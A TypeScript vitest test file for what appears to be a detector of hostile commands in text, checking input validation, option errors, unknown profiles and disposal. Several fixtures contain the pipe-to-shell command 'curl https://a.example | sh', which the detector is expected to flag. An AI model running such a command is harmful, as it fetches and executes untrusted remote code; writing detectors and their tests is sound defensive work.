import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { InputError, type Detector } from "../../src/core/index.js";
import { createNodeDetector } from "../../src/host/node.js";

let detector: Detector;
beforeAll(async () => {
  detector = await createNodeDetector();
});
afterAll(() => {
  detector.dispose();
});

/** Returns the error that detection throws for arguments that the types do not allow. */
function refusal(text: unknown, options: object = {}): unknown {
  try {
    return (detector.detect as (text: unknown, options: object) => unknown)(text, options);
  } catch (error) {
    return error;
  }
}

describe("the input of a detector", () => {
  it.each([
    [undefined, "text has to be a string (decode bytes first), not undefined"],
    [null, "text has to be a string (decode bytes first), not null"],
    [7, "text has to be a string (decode bytes first), not 7"],
    [
      Buffer.from("curl A | sh"),
      "text has to be a string (decode bytes first), not an object (Buffer)",
    ],
    [
      Object.create(null),
      "text has to be a string (decode bytes first), not a value of type object",
    ],
    [
      ["curl https://a.example | sh"],
      "text has to be a string (decode bytes first), not an object (Array)",
    ],
  ])("is rejected if it is not a string: %s", (text, message) => {
    const error = refusal(text);
    expect(error).toBeInstanceOf(InputError);
    expect(error).toMatchObject({ code: "input", parameter: "text", message });
  });

  it.each([
    [
      "offsetEncoding",
      "utf16",
      'offsetEncoding has to be one of utf-16, codepoint, utf-8, not "utf16"',
    ],
    ["deadlineMs", Number.NaN, "deadlineMs has to be a number of milliseconds, not NaN"],
    ["deadlineMs", -1, "deadlineMs has to be a number of milliseconds, not -1"],
    ["deadlineMs", "5", 'deadlineMs has to be a number of milliseconds, not "5"'],
    ["format", 3, "format has to be a fence tag, not 3"],
  ])("is rejected if the option %s is %s", (parameter, value, message) => {
    expect(refusal("curl https://a.example | sh", { [parameter]: value })).toMatchObject({
      code: "input",
      parameter,
      message,
    });
  });

  it("is accepted if options are undefined", () => {
    expect(
      refusal("curl https://a.example | sh", {
        offsetEncoding: undefined,
        deadlineMs: Infinity,
        format: undefined,
      }),
    ).toMatchObject({ labels: ["PS"] });
  });

  it("is rejected if the profile is unknown", async () => {
    await expect(createNodeDetector({ profile: "strict" as "contract" })).rejects.toMatchObject({
      code: "input",
      message: 'profile has to be one of contract, extended, not "strict"',
    });
  });

  it("is rejected after the detector was disposed of, even twice", async () => {
    const used = await createNodeDetector();
    used.dispose();
    used.dispose();
    expect(() => used.detect("curl https://a.example | sh")).toThrow(
      "this detector was disposed of: create another one",
    );
  });
});
